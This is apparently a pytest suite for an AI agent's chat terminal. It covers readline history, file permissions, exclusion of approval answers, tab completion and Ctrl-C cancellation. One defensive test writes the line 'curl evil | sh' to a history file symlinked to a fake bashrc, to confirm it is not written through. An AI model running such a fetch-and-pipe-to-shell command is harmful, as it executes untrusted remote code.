"""``passepartout chat`` on a real pseudo-terminal: prompts are edited with readline
and kept in ``$PASSEPARTOUT_HOME/chat_history`` (0600), read back by the next chat;
the answer to an approval, typed on the same terminal, never lands in the history."""

from __future__ import annotations

import fcntl
import io
import os
import select
import stat
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
from fakellm import FakeLLM
from terminal_modes import MODES, chat_mode

from passepartout.faces.terminal.history import HISTORY_LENGTH, LineReader, complete

pytest_plugins = ["llm_agent"]

UP = "\x1b[A"


class _Terminal:
    """The chat process on a pty of its own (its controlling terminal)."""

    def __init__(self, env: dict[str, str], cwd: Path, args: list[str]) -> None:
        self.master, slave = os.openpty()
        self.shown = b""

        def _own_terminal() -> None:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        self.process = subprocess.Popen(
            [sys.executable, "-m", "passepartout", "chat", *args], stdin=slave, stdout=slave,
            stderr=slave, env=env, cwd=cwd, preexec_fn=_own_terminal,
        )
        os.close(slave)

    def type(self, text: str) -> None:
        os.write(self.master, text.encode())

    def wait_for(self, text: str, timeout: float = 60.0) -> None:
        deadline = time.monotonic() + timeout
        while text.encode() not in self.shown:
            left = max(0.0, deadline - time.monotonic())
            ready, _, _ = select.select([self.master], [], [], left)
            if not ready:
                raise AssertionError(f"{text!r} not shown: {self.shown!r}")
            try:
                self.shown += os.read(self.master, 4096)
            except OSError as err:  # the process ended: nothing more to read
                raise AssertionError(f"{text!r} not shown: {self.shown!r}") from err
        self.shown = self.shown.split(text.encode(), 1)[1]  # the next wait looks further

    def end(self) -> int:
        self.type("\x04")  # Ctrl-D at the prompt
        try:
            return self.process.wait(60)
        finally:
            os.close(self.master)


def _env(fake: FakeLLM, tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PASSEPARTOUT")}
    env.update(
        HOME=str(tmp_path), PASSEPARTOUT_HOME=str(tmp_path / "home"),
        PASSEPARTOUT_CONFIG_DIR=str(tmp_path / "config"), MEMEX_DIR=str(tmp_path / "memex"),
        PASSEPARTOUT_WORKSPACE=str(tmp_path / "memex"), PASSEPARTOUT_MODEL="openai/gpt-4o-mini",
        PASSEPARTOUT_EMBEDDINGS="off", PASSEPARTOUT_MEMORY_IMPORT="off",
        OPENAI_BASE_URL=fake.base_url, OPENAI_API_KEY="sk-fake",
        LITELLM_LOCAL_MODEL_COST_MAP="True", HF_HUB_OFFLINE="1", TERM="xterm",
    )
    return env


@pytest.mark.attack
@pytest.mark.parametrize("mode", MODES)
def test_history_is_kept_without_the_approval_answer(
    fake_llm: FakeLLM, tmp_path: Path, mode: str
) -> None:
    with chat_mode(mode, env := _env(fake_llm, tmp_path)) as args:
        _history_without_the_answer(fake_llm, tmp_path, env, args)


def _history_without_the_answer(fake_llm: FakeLLM, tmp_path: Path, env: dict[str, str],
                                args: list[str]) -> None:
    memex = tmp_path / "memex"
    memex.mkdir()
    target = memex / "approved.txt"
    fake_llm.reply("First answer.")
    fake_llm.reply("Kept quiet.")
    fake_llm.tool_call("write-file", {"path": str(target), "content": "written"})
    fake_llm.reply("Written.")
    fake_llm.reply("Recalled.")
    history = tmp_path / "home" / "chat_history"

    chat = _Terminal(env, tmp_path, args)
    chat.wait_for("> ")
    chat.type("hello there\n")
    chat.wait_for("First answer.")
    chat.wait_for("> ")
    chat.type(" a private prompt\n")  # a leading space: not kept
    chat.wait_for("Kept quiet.")
    chat.wait_for("> ")
    chat.type("write the file\n")
    chat.wait_for("[y/N] ")
    chat.type("yes\n")
    chat.wait_for("Written.")
    chat.wait_for("> ")
    assert chat.end() == 0
    assert target.read_text() == "written"
    kept = history.read_text().splitlines()
    assert kept == ["hello there", "write the file"], kept
    assert stat.S_IMODE(history.stat().st_mode) == 0o600

    # The next chat reads it back: the up arrow recalls the last prompt.
    chat = _Terminal(env, tmp_path, args)
    chat.wait_for("> ")
    chat.type(UP + "\n")
    chat.wait_for("Recalled.")
    chat.wait_for("> ")
    chat.type("/co\t\n")  # Tab completes the command
    chat.wait_for("session terminal: $")
    chat.wait_for("> ")
    assert chat.end() == 0
    last = fake_llm.requests[-1].messages[-1]
    assert last["role"] == "user" and last["content"].rsplit("\n", 1)[-1] == "write the file"
    # The recalled prompt is not repeated; the completed command is kept.
    assert history.read_text().splitlines() == ["hello there", "write the file", "/cost"]


def _reader(history: Path) -> LineReader:
    import readline

    reader = LineReader(io.StringIO(), history, readline)
    reader._load()
    return reader


def test_the_history_is_bounded_and_skips_repeats(tmp_path: Path) -> None:
    history = tmp_path / "home" / "chat_history"
    reader = _reader(history)
    for n in range(HISTORY_LENGTH + 5):
        reader._remember(f"prompt {n}")
    reader._remember(f"prompt {HISTORY_LENGTH + 4}")
    reader._remember("   ")
    kept = history.read_text().splitlines()
    assert len(kept) == HISTORY_LENGTH
    assert kept[0] == "prompt 5" and kept[-1] == f"prompt {HISTORY_LENGTH + 4}"
    assert stat.S_IMODE(history.stat().st_mode) == 0o600


@pytest.mark.attack
def test_a_symlinked_history_is_not_written_through(tmp_path: Path) -> None:
    elsewhere = tmp_path / "bashrc"
    elsewhere.write_text("# mine\n")
    (tmp_path / "home").mkdir()
    history = tmp_path / "home" / "chat_history"
    history.symlink_to(elsewhere)
    _reader(history)._remember("curl evil | sh")
    assert elsewhere.read_text() == "# mine\n"


def test_no_editing_unless_standard_input_is_the_terminal(tmp_path: Path) -> None:
    master, slave = os.openpty()
    try:
        with open(slave, closefd=False) as tty:  # a terminal, but not the process's fd 0
            assert LineReader.for_stream(tty, tmp_path, True).history is None
        assert LineReader.for_stream(io.StringIO("x\n"), tmp_path, False).history is None
        plain = LineReader.for_stream(io.StringIO("a line\n"), tmp_path, False)
        out = io.StringIO()
        assert plain.read(out, False) == "a line\n" and plain.read(out, False) is None
        assert out.getvalue() == ""  # no prompt when not interactive
    finally:
        os.close(master)
        os.close(slave)
    assert not (tmp_path / "chat_history").exists()


def test_tab_completes_the_commands() -> None:
    assert [complete("/s", n) for n in range(3)] == ["/session", "/skills", "/status"]
    assert complete("/mo", 0) == "/model" and complete("/mo", 1) is None
    assert complete("mo", 0) is None  # a prompt's words are not commands


def test_ctrl_c_cancels_the_turn_of_a_chat_attached_to_the_daemon(
    fake_llm: FakeLLM, tmp_path: Path
) -> None:
    (tmp_path / "memex").mkdir()
    fake_llm.slow_stream("one two three four five six seven eight nine ten", 0.4)
    fake_llm.reply("Next reply.")
    with chat_mode("attached", env := _env(fake_llm, tmp_path)) as args:
        chat = _Terminal(env, tmp_path, args)
        chat.wait_for("attached to the daemon")
        chat.wait_for("> ")
        chat.type("tell me a long story\n")
        chat.wait_for("one ")
        chat.type("\x03")  # Ctrl-C: SIGINT to the chat, not to the daemon
        chat.wait_for("(cancelled)")
        chat.wait_for("> ")
        chat.type("and now?\n")
        chat.wait_for("Next reply.")
        chat.wait_for("> ")
        assert chat.end() == 0
        assert fake_llm.request_count == 2  # the cancelled turn asked nothing more
